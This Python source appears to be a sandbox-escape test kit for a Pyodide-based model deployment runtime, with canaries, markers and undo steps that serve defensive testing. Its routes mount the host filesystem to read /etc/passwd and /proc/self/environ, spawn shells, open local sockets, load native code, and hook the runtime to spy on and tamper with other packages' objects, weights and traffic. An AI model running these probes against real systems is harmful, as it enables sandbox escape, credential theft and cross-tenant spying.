            dangerous = [k for k in ("FS", "_module", "_api", "mountNodeFS", "mountNativeFS", "useNodeSockFS", "loadPackage", "setInterruptBuffer", "registerJsModule", "runPython", "makeMemorySnapshot") if k in keys]
            return f"via {label}: {dangerous}"

        def api_leftovers():
            api = sys.modules.get("pyodide_js._api")
            if api is None:
                raise Blocked("no sys.modules['pyodide_js._api']")
            return f"pyodide_js._api keys: {_text(_js_keys(api), 1500)}"

        def config():
            _label, api = _pyodide_api()
            cfg = _jsattr(api, "_api.config")
            return f"indexURL={cfg.indexURL} env={_text(cfg.env.to_py(), 300)}"

        return _run("pyodide_js_api", [("pyodide API", probe), ("pyodide_js._api leftover", api_leftovers), ("api._api.config", config)])

    @_route
    def try_pyodide_js_fs_mount(self):
        """Mount the host's file system (NODEFS / mountNodeFS) and read, list and write it."""

        def mount(where, root):
            _label, api = _pyodide_api()
            FS = api.FS
            NODEFS = _jsattr(FS, "filesystems.NODEFS")
            FS.mkdirTree(where)
            FS.mount(NODEFS, _to_js_obj({"root": root}), where)
            return FS

        def unmount(FS, where):
            for step in (FS.unmount, FS.rmdir):
                try:
                    step(where)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    pass

        def list_and_read():
            FS = mount("/wd_host", "/")
            try:
                listing = sorted(os.listdir("/wd_host"))
                out = [f"host / = {listing}"]
                for p in ("/etc/passwd", "/etc/hostname", "/proc/self/environ"):
                    try:
                        out.append(f"{p}: {_read_file('/wd_host' + p, 1500)}")
                    except KeyboardInterrupt:
                        raise
                    except BaseException as e:
                        out.append(f"{p}: {_err(e)}")
                return "\n".join(out)
            finally:
                unmount(FS, "/wd_host")

        def traversal():
            _label, api = _pyodide_api()
            index = str(_jsattr(api, "_api.config.indexURL")).replace("file://", "").rstrip("/")
            FS = mount("/wd_idx", index)
            try:
                return _read_file("/wd_idx/../../../../../../../../etc/passwd", 1500)
            finally:
                unmount(FS, "/wd_idx")

        def write():
            FS = mount("/wd_hosttmp", "/tmp")
            try:
                with open("/wd_hosttmp/" + os.path.basename(_HOST_FILES["nodefs"]), "w") as f:
                    f.write(_MARK)
                return f"wrote on host: {_HOST_FILES['nodefs']}"
            finally:
                unmount(FS, "/wd_hosttmp")

        def mount_node_fs():
            _label, api = _pyodide_api()
            api.mountNodeFS("/wd_host2", "/etc")
            try:
                return _read_file("/wd_host2/passwd", 1500)
            finally:
                unmount(api.FS, "/wd_host2")

        def readable_runtime():
            _label, api = _pyodide_api()
            index = str(_jsattr(api, "_api.config.indexURL")).replace("file://", "").rstrip("/")
            FS = mount("/wd_idx2", index)
            try:
                names = sorted(os.listdir("/wd_idx2"))[:20]
                return f"host dir {index} readable: {names}"
            finally:
                unmount(FS, "/wd_idx2")

        probes = [
            ("NODEFS mount of / (list, read)", list_and_read),
            ("NODEFS path traversal from indexURL", traversal),
            ("NODEFS write to host /tmp", write),
            ("mountNodeFS('/etc')", mount_node_fs),
            ("NODEFS mount of the pyodide dir", readable_runtime),
        ]
        return _run("pyodide_js_fs_mount", probes, note="the last probe may legitimately succeed (the runtime's own read-only files)")

    @_route
    def try_env_canary(self):
        """The host's environment: os.environ, getenv, posix.environ, /proc/self/environ, process.env."""

        def environ_file():
            data = _read_file("/proc/self/environ", 1 << 20)
            i = data.find(_CANARY + "=")
            if i < 0:
                raise Blocked(f"{_CANARY} not in /proc/self/environ")
            return data[i:i + 200].split("\0")[0]

        def js_env():
            _label, p = _process()
            return _defined(getattr(p.env, _CANARY, None), "process.env canary")

        def api_env():
            _label, api = _pyodide_api()
            return _defined(_jsattr(api, "_api.config.env").to_py().get(_CANARY))

        probes = [
            ("os.environ", lambda: os.environ.get(_CANARY)),
            ("os.getenv", lambda: os.getenv(_CANARY)),
            ("posix.environ", lambda: _imp("posix").environ.get(_CANARY.encode())),
            ("/proc/self/environ", environ_file),
            ("js process.env", js_env),
            ("pyodide config.env", api_env),
            ("ctypes getenv", lambda: _imp("ctypes").CDLL(None).getenv),  # replaced below
        ]

        def ctypes_getenv():
            ctypes = _imp("ctypes")
            libc = ctypes.CDLL(None)
            libc.getenv.restype = ctypes.c_char_p
            return libc.getenv(_CANARY.encode())

        probes[-1] = ("ctypes getenv", ctypes_getenv)
        return _run("env_canary", probes)

    @_route
    def try_read_host_file(self):
        """open() on host paths, directory listings, the hostname (informational where benign)."""
        probes = []
        for p in ("/etc/passwd", "/etc/hostname", "/etc/hosts", "/proc/self/cmdline", "/proc/self/status", "/proc/1/cmdline", "/proc/self/mounts"):
            probes.append((f"open({p!r})", lambda p=p: _read_file(p, 1500)))
        for d in ("/", "/home", "/tmp", "/proc", "/root", "/work"):
            probes.append((f"listdir({d!r})", lambda d=d: sorted(os.listdir(d))[:60]))
        probes.append(("socket.gethostname()", lambda: _imp("socket").gethostname()))
        probes.append(("os.uname()", lambda: tuple(os.uname())))
        return _run("read_host_file", probes, note="informational: the interpreter's own FS may answer; must_not_contain decides")

    @_route
    def try_write_host_file(self):
        """Writes from Python: to the interpreter FS (harmless) and, by any route, to the host."""

        def py_write():
            path = _HOST_FILES["python_write"]
            with open(path, "w") as f:
                f.write(_MARK)
            return f"wrote in the interpreter FS: {path} (the host file must not exist)"

        def home_write():
            path = os.path.join(os.path.expanduser("~"), ".wd_hostile_profile")
            with open(path, "w") as f:
                f.write("# hostile\n")
            os.remove(path)
            return f"wrote in the interpreter FS: {path} (removed)"

        return _run("write_host_file", [("open(w) /tmp", py_write), ("open(w) ~", home_write)], note="informational: check host_files_must_not_exist")

    # ----- processes, network, native code ----------------------------------------------
    @_route
    def try_subprocess(self):
        """subprocess.run of a shell (writes a host marker file)."""
        subprocess = _imp("subprocess")

        def run():
            cmd = f"{_MARK_CMD} | tee {_HOST_FILES['subprocess']}"
            r = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True, timeout=20)
            return f"rc={r.returncode} stdout={r.stdout.decode(errors='replace').strip()}"

        def popen():
            p = subprocess.Popen(["/bin/sh", "-c", _MARK_CMD], stdout=subprocess.PIPE)
            out, _ = p.communicate(timeout=20)
            return f"Popen pid={p.pid} stdout={out.decode(errors='replace').strip()}"

        return _run("subprocess", [("subprocess.run", run), ("subprocess.Popen", popen)])

    @_route
    def try_os_system(self):
        """os.system and os.popen (shell)."""

        def system():
            rc = os.system(f"{_MARK_CMD} > {_HOST_FILES['os_system']}")
            if rc != 0:
                raise Blocked(f"os.system returned {rc}")
            return f"os.system returned 0 (wrote {_HOST_FILES['os_system']})"

        def popen():
            out = os.popen(_MARK_CMD).read()
            if _MARK not in out:
                raise Blocked(f"os.popen output {out!r}")
            return out.strip()

        return _run("os_system", [("os.system", system), ("os.popen", popen)])

    @_route
    def try_os_fork_exec(self):
        """os.fork / execv / posix_spawn / spawnv."""

        def fork():
            pid = os.fork()
            if pid == 0:  # child: write the marker, never return into the interpreter
                try:
                    with open(_HOST_FILES["fork"], "w") as f:
                        f.write(_MARK)
                finally:
                    os._exit(0)
            os.waitpid(pid, 0)
            return f"forked child pid {pid}, it wrote {_HOST_FILES['fork']}"

        def fork_exec():
            pid = os.fork()
            if pid == 0:
                try:
                    os.execv("/bin/true", ["true"])
                finally:
                    os._exit(127)
            _, status = os.waitpid(pid, 0)
            if status != 0:
                raise Blocked(f"exec child status {status}")
            return f"fork + execv('/bin/true') ran (pid {pid})"

        def execv_direct():
            # Only where fork is impossible: execv replacing the interpreter is itself the escape.
            if sys.platform != "emscripten":
                raise Blocked("not tried outside emscripten (it would replace this process)")
            os.execv("/bin/true", ["true"])
            return "execv returned?!"

        def posix_spawn():
            pid = os.posix_spawn("/bin/true", ["true"], {})
            _, status = os.waitpid(pid, 0)
            return f"posix_spawn pid {pid} status {status}"

        def spawnv():
            rc = os.spawnv(os.P_WAIT, "/bin/true", ["true"])
            if rc != 0:
                raise Blocked(f"spawnv returned {rc}")
            return "spawnv(/bin/true) returned 0"

        return _run("os_fork_exec", [("os.fork", fork), ("os.fork+execv", fork_exec), ("os.execv", execv_direct), ("os.posix_spawn", posix_spawn), ("os.spawnv", spawnv)])

    @_route
    def try_socket_connect(self, port=9, unix_path="/tmp/wasmdeploy_hostile.sock"):
        """TCP connect to 127.0.0.1:<port> and a unix socket; also after useNodeSockFS."""
        socket = _imp("socket")

        def tcp():
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.settimeout(5)
            try:
                s.connect(("127.0.0.1", port))
                s.sendall(b"GET / HTTP/1.0\r\n\r\n")
                try:
                    reply = s.recv(200)
                except KeyboardInterrupt:
                    raise
                except BaseException as e:
                    reply = _err(e)
                return f"connected to 127.0.0.1:{port}; reply {reply!r}"
            finally:
                s.close()

        def unix():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            try:
                s.connect(unix_path)
                return f"connected to unix socket {unix_path}"
            finally:
                s.close()

        def node_sockfs():
            _label, api = _pyodide_api()
            api.useNodeSockFS()
            return tcp()

        return _run("socket_connect", [("tcp 127.0.0.1", tcp), ("unix socket", unix), ("useNodeSockFS + tcp", node_sockfs)], note=f"port {port}: a host test may listen there; any connection it sees is an escape")

    @_route
    def try_urllib(self, port=9):
        """urllib.request / http.client to 127.0.0.1:<port>."""

        def urlopen():
            r = _imp("urllib.request").urlopen(f"http://127.0.0.1:{port}/", timeout=5)
            return f"HTTP {r.status}: {r.read(200)!r}"

        def http_client():
            c = _imp("http.client").HTTPConnection("127.0.0.1", port, timeout=5)
            c.request("GET", "/")
            r = c.getresponse()
            return f"HTTP {r.status}: {r.read(200)!r}"

        return _run("urllib", [("urllib.request.urlopen", urlopen), ("http.client", http_client)])

    @_route
    def try_ctypes(self):
        """ctypes: dlopen(NULL), libc calls, raw memory of this interpreter."""

        def cdll():
            ctypes = _imp("ctypes")
            libc = ctypes.CDLL(None)
            libc.getpid.restype = ctypes.c_int
            return f"CDLL(None) = {libc}; getpid() = {libc.getpid()}"

        def raw_memory():
            ctypes = _imp("ctypes")
            secret = b"wd-raw-memory-probe"
            addr = id(secret)
            data = ctypes.string_at(addr, sys.getsizeof(secret))
            if secret not in data:
                raise Blocked("object memory not readable")
            return f"read {len(data)} bytes of a Python object at {addr:#x} through ctypes.string_at"

        def pythonapi():
            ctypes = _imp("ctypes")
            return f"ctypes.pythonapi = {ctypes.pythonapi}"

        return _run("ctypes", [("CDLL(None)", cdll), ("string_at(id(obj))", raw_memory), ("pythonapi", pythonapi)])

    @_route
    def try_load_native_code(self):
        """dlopen of a hand-made wasm side module and of shared libraries found on the FS."""

        def hand_made():
            ctypes = _imp("ctypes")
            path = "/tmp/wd_hand_side_module.so"
            with open(path, "wb") as f:
                f.write(_wasm_module_bytes(dylink=True))
            lib = ctypes.CDLL(path)
            lib.wd_answer.restype = ctypes.c_int
            return f"dlopen({path}) of a hand-made side module; wd_answer() -> {lib.wd_answer()}"

        def existing():
            ctypes = _imp("ctypes")
            libs = []
            if sys.platform == "emscripten":
                for root in ("/lib", "/usr/lib"):
                    for dirpath, _dirs, files in os.walk(root):
                        libs.extend(os.path.join(dirpath, n) for n in files if n.endswith(".so") or ".so." in n)
                        if len(libs) > 50:
                            break
            else:  # a harmless library only: loading arbitrary ones into the build process is unsafe
                libm = _imp("ctypes.util").find_library("m")
                libs = [libm] if libm else []
            if not libs:
                raise Blocked("no shared library on the FS")
            for path in sorted(libs):
                try:
                    ctypes.CDLL(path)
                    return f"dlopen({path}) ok ({len(libs)} libraries found)"
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    continue
            raise Blocked(f"none of {len(libs)} libraries loaded")

        def load_dynlib():
            _label, api = _pyodide_api()
            return f"api._api.loadDynlib is {_defined(_jsattr(api, '_api.loadDynlib'))}"

        return _run("load_native_code", [("hand-made side module", hand_made), ("existing .so", existing), ("loadDynlib", load_dynlib)])

    # ----- other packages in this interpreter ------------------------------------------------
    @_route
    def try_sys_modules_victim(self):
        """The other package's modules: sys.modules, importlib, and the package importers' tables."""

        def in_sys_modules():
            names = [n for n in list(sys.modules) if _foreign_module_name(n)]
            if not names:
                raise Blocked("no foreign module in sys.modules")
            return names

        def importlib_direct():
            return _imp(_TARGET)

        def importer_tables():
            hits = []
            for o in gc.get_objects():
                try:
                    if type(o).__name__ != "PackageImporter" or o is _own_importer():
                        continue
                    mods = getattr(o, "modules", {})
                    for name, m in list(mods.items()):
                        if name == "torch_package_importer":
                            continue
                        if _TARGET in name or not isinstance(m, type(sys)) or _foreign_module_name(getattr(m, "__name__", "")):
                            hits.append(f"{getattr(o, 'label', '?')}: {name} -> {_text(m, 120)}")
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    continue
            if not hits:
                raise Blocked("no other package importer")
            return hits[:20]

        return _run("sys_modules_victim", [("sys.modules", in_sys_modules), ("importlib.import_module(<target>)", importlib_direct), ("other PackageImporter.modules", importer_tables)])

    @_route
    def try_other_package_objects(self):
        """Instances of other packages' classes and secret strings, through gc and __subclasses__."""

        def via_gc():
            found = _scan_gc_for_target()
            if not found:
                raise Blocked("nothing foreign in gc.get_objects()")
            return found

        def via_subclasses():
            hits = []
            stack = [object]
            seen = set()
            while stack:
                cls = stack.pop()
                try:
                    subs = type.__subclasses__(cls)
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    continue
                for c in subs:
                    if id(c) in seen:
                        continue
                    seen.add(id(c))
                    stack.append(c)
                    if _foreign_module_name(getattr(c, "__module__", "")):
                        insts = [r for r in gc.get_referrers(c) if type(r) is c]
                        hits.append(f"class {c.__module__}.{c.__qualname__}: " + ", ".join(_describe_obj(i) for i in insts[:3]))
            if not hits:
                raise Blocked(f"no foreign class among {len(seen)} classes")
            return hits[:10]

        return _run("other_package_objects", [("gc.get_objects", via_gc), ("object.__subclasses__", via_subclasses)])

    @_route
    def try_other_package_weights(self):
        """Other packages' weights: float lists / tensors / storages in this interpreter."""

        def weight_attrs():
            hits = []
            for o in gc.get_objects():
                try:
                    mod = getattr(type(o), "__module__", "") or ""
                    if not _foreign_module_name(mod):
                        continue
                    for k, v in vars(o).items():
                        if "weight" in k or type(v).__name__ in ("Tensor", "Storage", "Parameter"):
                            hits.append(f"{type(o).__qualname__}.{k} = {_text(v, 300)}")
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    continue
            if not hits:
                raise Blocked("no foreign weights")
            return hits[:10]

        def tensors():
            hits = []
            own = _own_storage_prefix()
            for o in gc.get_objects():
                try:
                    if type(o).__name__ != "Storage":
                        continue
                    sid = getattr(o, "id", None)
                    if isinstance(sid, str) and own and not sid.startswith(str(own) + "/"):
                        hits.append(f"Storage {sid}")
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    continue
            if not hits:
                raise Blocked("no foreign storage objects")
            return hits[:20]

        return _run("other_package_weights", [("weights attributes", weight_attrs), ("Storage objects", tensors)])

    @_route
    def try_runtime_registries(self):
        """wasmdeploy_runtime.host's _packages / _replicated / _handles (every package's objects)."""

        def registries():
            host = _imp("wasmdeploy_runtime.host")
            out = []
            for name in ("_packages", "_replicated", "_handles"):
                reg = getattr(host, name, None)
                if not isinstance(reg, dict):
                    continue
                own = _own_importer()
                for k, v in list(reg.items())[:40]:
                    if v is own or v is self:
                        continue
                    label = getattr(v, "label", None)
                    out.append(f"{name}[{k!r}] = {_text(label if label is not None else _describe_obj(v), 300)}")
            if not out:
                raise Blocked("registries hold only our own objects")
            return out

        def pickle_bytes():
            host = _imp("wasmdeploy_runtime.host")
            own = _own_importer()
            out = []
            for pid, imp in list(getattr(host, "_packages", {}).items()):
                if imp is own:
                    continue
                files = getattr(imp, "files", {})
                for path, data in list(files.items()):
                    if path.endswith(".pkl") or path.endswith(".py"):
                        out.append(f"{pid}:{path} ({len(data)} bytes) {_text(bytes(data[:160]), 400)}")
            if not out:
                raise Blocked("no other archive's files")
            return out[:12]

        return _run("runtime_registries", [("host registries", registries), ("other archives' files", pickle_bytes)])

    @_route
    def try_importer_globals(self):
        """From our own torch_package_importer to the runtime's globals (class __init__.__globals__)."""

        def probe():
            imp = _own_importer()
            g = type(imp).__init__.__globals__
            mods = g["importlib"].import_module("sys").modules if "importlib" in g else sys.modules
            host = mods.get("wasmdeploy_runtime.host")
            if host is None:
                raise Blocked(f"importer globals: {sorted(k for k in g if not k.startswith('__'))[:20]}")
            pk = getattr(host, "_packages", {})
            others = [f"{k}: {getattr(v, 'label', '?')}" for k, v in pk.items() if v is not imp]
            if not others:
                raise Blocked("only our own package is registered")
            return others

        return _run("importer_globals", [("type(importer).__init__.__globals__", probe)])

    @_route
    def try_frame_walk(self):
        """sys._getframe / traceback frames up into the dispatcher: its locals and globals."""

        def frames():
            out = []
            f = sys._getframe()
            while f is not None:
                code = f.f_code
                g = f.f_globals
                interesting = [k for k in ("_packages", "_handles", "_replicated") if isinstance(g.get(k), dict)]
                if interesting:
                    sizes = {k: len(g[k]) for k in interesting}
                    labels = [getattr(v, "label", None) for v in g.get("_packages", {}).values()]
                    out.append(f"{code.co_filename}:{code.co_name} globals {sizes} labels {labels}")
                f = f.f_back
            if not out:
                raise Blocked("no dispatcher frame")
            return out

        def tb_frames():
            try:
                raise RuntimeError("probe")
            except RuntimeError as e:
                f = e.__traceback__.tb_frame
            n = 0
            while f is not None:
                n += 1
                f = f.f_back
            return f"{n} frames reachable from a traceback"

        return _run("frame_walk", [("sys._getframe chain", frames), ("traceback frames", tb_frames)], note="informational: frames of our own call; must_not_contain decides")

    # ----- persistent spies: install now, read with try_collect_spy_results -------------------------
    @_route
    def try_settrace_spy(self):
        """sys.setprofile: see other packages' frames (and their locals) in later calls."""
        prev = sys.getprofile()

        def profiler(frame, event, arg):
            if event == "call" and _SPY["on"] and len(_SPY["profile"]) < 100:
                fn = frame.f_code.co_filename
                if _foreign_module_name(fn) or _TARGET in fn:
                    try:
                        _SPY["profile"].append(f"{fn}:{frame.f_code.co_name} locals={_text(dict(frame.f_locals), 300)}")
                    except KeyboardInterrupt:
                        raise
                    except BaseException:
                        pass
            if prev is not None:
                return prev(frame, event, arg)

        sys.setprofile(profiler)
        _SPY["on"] = True
        _SPY["profiler"] = profiler
        _SPY["installed"].append("setprofile")

        def undo():
            _SPY["profiler"] = None
            sys.setprofile(prev)

        _SPY["undo"].append(undo)
        return _result("settrace_spy", None, None, "installed sys.setprofile; findings come from try_collect_spy_results")

    @_route
    def try_audit_hook(self):
        """sys.addaudithook: see other packages' pickle.find_class / import / open / exec events."""

        def hook(event, args):
            if not _SPY["on"] or len(_SPY["audit"]) >= 200:
                return
            # (sys._getframe is itself audited: look at the stack only for the events we keep)
            if event in ("pickle.find_class", "import", "open", "exec", "compile", "os.listdir") and not _triggered_by_kit():
                try:
                    s = f"{event} {_text(args, 200)}"
                except KeyboardInterrupt:
                    raise
                except BaseException:
                    return
                if _TARGET in s or ("torch_package_" in s and (_own_prefix() or "?") not in s):
                    _SPY["audit"].append(s)

        sys.addaudithook(hook)
        _SPY["on"] = True
        _SPY["installed"].append("audit hook")
        return _result("audit_hook", None, None, "installed an audit hook (cannot be removed; muted by try_collect_spy_results)")

    @_route
    def try_import_hook_spy(self):
        """A sys.meta_path finder that sees (and could replace) every later import."""

        class Spy:
            def find_spec(self, fullname, path=None, target=None):
                if _SPY["on"] and len(_SPY["imports"]) < 200 and not _triggered_by_kit():
                    _SPY["imports"].append(fullname)
                return None

        spy = Spy()
        sys.meta_path.insert(0, spy)
        _SPY["on"] = True
        _SPY["installed"].append("meta_path finder")
        _SPY["undo"].append(lambda: sys.meta_path.remove(spy) if spy in sys.meta_path else None)
        return _result("import_hook_spy", None, None, "installed a sys.meta_path finder; findings come from try_collect_spy_results")

    @_route
    def try_hook_runtime(self):
        """Wrap the runtime's dispatcher table / wire decoder / bridge to see every package's traffic."""
        installed = []
        errors = []

        own_pkg = _own_storage_prefix()  # the host's id of this package, e.g. "p2"

        def record(kind, a, r):
            """Keeps only other packages' traffic (our own would drown it)."""
            if not _SPY["on"] or len(_SPY["traffic"]) >= 100:
                return
            if isinstance(a, dict) and own_pkg is not None and a.get("pkg") == own_pkg:
                return
            if isinstance(a, str) and own_pkg is not None and f'"pkg","{own_pkg}"' in a.replace(" ", ""):
                return
            _SPY["traffic"].append(f"{kind}: {_text(a, 300)} -> {_text(r, 300)}")

        try:
            host = _imp("wasmdeploy_runtime.host")
            ops = host._OPS
            for op in ("call", "getattr", "target", "global"):
                orig = ops.get(op)
                if orig is None:
                    continue

                def wrapper(req, orig=orig, op=op):
                    r = orig(req)
                    record(f"op {op}", req, r)
                    return r

                ops[op] = wrapper
                _SPY["undo"].append(lambda op=op, orig=orig: ops.__setitem__(op, orig))
                installed.append(f"host._OPS[{op!r}]")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"host._OPS: {_err(e)}")
        try:
            wire = _imp("wasmdeploy_runtime.wire")
            orig_loads = wire.loads

            def loads(text, *a, **k):
                r = orig_loads(text, *a, **k)
                record("wire.loads", text, None)
                return r

            wire.loads = loads
            _SPY["undo"].append(lambda: setattr(wire, "loads", orig_loads))
            installed.append("wire.loads")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"wire.loads: {_err(e)}")
        try:
            backend = _imp("torch._backend")
            orig_call = backend._call

            def bcall(kind, body, buffers=()):
                r = orig_call(kind, body, buffers)
                record(f"bridge {kind}", body, None)
                return r

            backend._call = bcall
            _SPY["undo"].append(lambda: setattr(backend, "_call", orig_call))
            installed.append("torch._backend._call")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            errors.append(f"torch._backend: {_err(e)}")
        _SPY["on"] = True
        _SPY["installed"].extend(installed)
        return _result("hook_runtime", None, errors, f"installed: {installed}; findings come from try_collect_spy_results")

    @_route
    def try_poison_shared_modules(self):
        """Tamper with state every package shares: builtins, json, sys (victim.tamper_check sees it)."""
        done = []
        marker = "wd-hostile-" + "poison"
        try:
            setattr(builtins, "_wd_hostile_marker", marker)
            done.append("builtins._wd_hostile_marker")
            json = _imp("json")
            json._wd_hostile_marker = marker
            done.append("json._wd_hostile_marker")
            sys._wd_hostile_marker = marker
            done.append("sys._wd_hostile_marker")
        except KeyboardInterrupt:
            raise
        except BaseException as e:
            return _result("poison_shared_modules", None, [_err(e)], f"set: {done}")

        def undo():
            for obj in (builtins, sys.modules.get("json"), sys):
                if obj is not None and hasattr(obj, "_wd_hostile_marker"):
                    delattr(obj, "_wd_hostile_marker")

        _SPY["undo"].append(undo)
        return _result("poison_shared_modules", None, None, f"set {done}; victim.tamper_check() must not see them; try_collect_spy_results removes them")

    # ----- collectors (call last) ----------------------------------------------------------
    @_route
    def try_collect_spy_results(self):
        """What the spies saw of other packages since they were installed; then uninstalls them."""
        got = []
        for key in ("profile", "audit", "imports", "traffic"):
            items = _SPY[key]
            if key == "imports":
                items = [n for n in items if _TARGET in n or "torch_package_" in n]
            for item in items[:50]:
                got.append(f"{key}: {_text(item, 600)}")
        installed = list(_SPY["installed"])
        _SPY["on"] = False
        for undo in reversed(_SPY["undo"]):
            try:
                undo()
            except KeyboardInterrupt:
                raise
            except BaseException:
                pass
        _SPY["undo"].clear()
        _SPY["installed"].clear()
        for key in ("profile", "audit", "imports", "traffic"):
            _SPY[key].clear()
        return _result("collect_spy_results", got, None, f"spies were: {installed}; now removed")

    @_route
    def try_collect_async_results(self):
        """Outcomes of the promises started by try_dynamic_import / try_fetch (after the event loop ran)."""
        got = [x for x in _ASYNC if ": resolved" in x or "ECONNREFUSED" in x or "ECONNRESET" in x]
        rest = [x for x in _ASYNC if x not in got]
        return _result("collect_async_results", got, rest, f"{len(_ASYNC)} promise outcomes recorded")


def _own_importer():
    try:
        return __import__("torch_package_importer")
    except KeyboardInterrupt:
        raise
    except BaseException:
        return None


_ORDER = {
    name: i
    for i, name in enumerate(
        [
            # spies first, so they see what later routes and the victim do
            "try_settrace_spy", "try_audit_hook", "try_import_hook_spy", "try_hook_runtime", "try_poison_shared_modules",
            # the JavaScript realm
            "try_import_dangerous_modules", "try_js_globals_dir", "try_js_process", "try_js_eval", "try_run_js",
            "try_function_constructor", "try_pyodide_ffi_to_js_constructor", "try_create_proxy_this",
            "try_error_prepare_stack_trace", "try_wasm_imports", "try_dynamic_import", "try_fetch", "try_require",
            "try_process_binding", "try_worker_threads", "try_js_child_process", "try_registered_bridge",
            "try_bridge_foreign_storages", "try_pyodide_js_api", "try_pyodide_js_fs_mount",
            # environment, files, network, native code
            "try_env_canary", "try_read_host_file", "try_write_host_file", "try_socket_connect", "try_urllib",
            "try_ctypes", "try_load_native_code",
            # other packages in this interpreter
            "try_sys_modules_victim", "try_other_package_objects", "try_other_package_weights",
            "try_runtime_registries", "try_importer_globals", "try_frame_walk",
            # collectors: run the victim step before these
            "try_collect_async_results", "try_collect_spy_results",
            # may crash the interpreter (and with it the spies): last
            "try_subprocess", "try_os_fork_exec", "try_os_system",
        ]
    )
}
